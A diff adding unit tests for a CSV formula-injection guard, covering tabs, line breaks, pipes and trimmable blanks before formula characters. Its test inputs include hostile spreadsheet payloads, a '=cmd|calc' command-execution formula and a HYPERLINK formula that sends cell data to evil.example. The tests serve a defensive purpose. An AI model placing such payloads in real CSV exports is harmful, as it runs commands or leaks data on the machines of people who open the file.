@@ -24,6 +24,22 @@ describe('csvCell', () => {
     ['a;"=1"', `"a;""'=1"""`],
     ['a\t\t=1', `"a\t'\t'=1"`],
     ['line\n=1', `"line\n'=1"`],
+    // A separator at the field's start is a cell start too: the TAB gets its quote, and so does the formula after it.
+    ['\t=cmd|calc', `"'\t'=cmd|calc"`],
+    ['\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")', `"'\t'=HYPERLINK(""http://evil.example/?""&A1,""SLA breached"")"`],
+    ['\r=cmd', `"'\r'=cmd"`],
+    ['\n=cmd', `"'\n'=cmd"`],
+    ['\t\t=1', `"'\t'\t'=1"`],
+    ['|=1', `"|'=1"`],
+    [';-1', `";'-1"`],
+    ['a|\t=1', `"a|'\t'=1"`],
+    // Blanks a spreadsheet may trim (no-break space, line separator) do not hide a formula.
+    ['a;\u00a0=1', `"a;\u00a0'=1"`],
+    ['\u2028@x', `"\u2028'@x"`],
+    // A CRLF is one line break; a blank line inside a text starts with a line break, which is guarded.
+    ['two\r\nlines', '"two\r\nlines"'],
+    ['a\r=1', `"a\r'=1"`],
+    ['para\n\nnext', `"para\n'\nnext"`],
   ])('%j → %j', (input, expected) => {
     expect(csvCell(input)).toBe(expected);
   });
@@ -78,6 +94,10 @@ const HOSTILE = [
   'Totals;-2+3;+4;@SUM(A1)',
   'tab\t\t=1',
   '=1;=2',
+  '\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")',
+  '\r=cmd|calc',
+  '|@SUM(A1)',
+  ';\u00a0+1',
 ];
 
 describe('the CSV formula guard, whatever separator the spreadsheet picks', () => {
